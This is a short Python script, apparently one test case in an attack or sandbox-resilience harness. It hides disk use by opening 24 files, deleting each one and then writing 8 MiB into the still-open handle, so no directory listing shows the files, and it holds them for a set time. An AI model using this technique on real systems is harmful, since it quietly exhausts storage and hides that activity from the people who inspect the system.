"""Fills the disk with files that are deleted and held open, so that no listing shows them."""
import os
import time

from attack import FOLDER, HOLD, attempt


def fill():
    files = []
    for at in range(24):
        files.append(open(f'{FOLDER}/large{at}', 'wb', buffering=0))
        os.unlink(f'{FOLDER}/large{at}')
        files[-1].write(b'x' * (8 << 20))
    time.sleep(HOLD)
    return True


attempt(fill)
